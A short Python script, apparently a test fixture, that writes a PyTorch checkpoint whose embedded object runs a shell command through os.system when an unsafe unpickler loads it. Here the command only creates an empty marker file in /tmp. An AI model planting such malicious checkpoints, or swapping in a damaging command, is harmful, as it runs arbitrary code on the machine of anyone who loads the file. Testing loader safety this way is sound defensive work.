"""Writes a train.pt that runs a command where a real unpickler loads it: `malicious.py FILE`.

The command creates an empty file in /tmp and does nothing else.
"""

import os
import sys

import torch


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-by-train-pt",)


torch.save({"global_step": 6, "x": Payload()}, sys.argv[1])
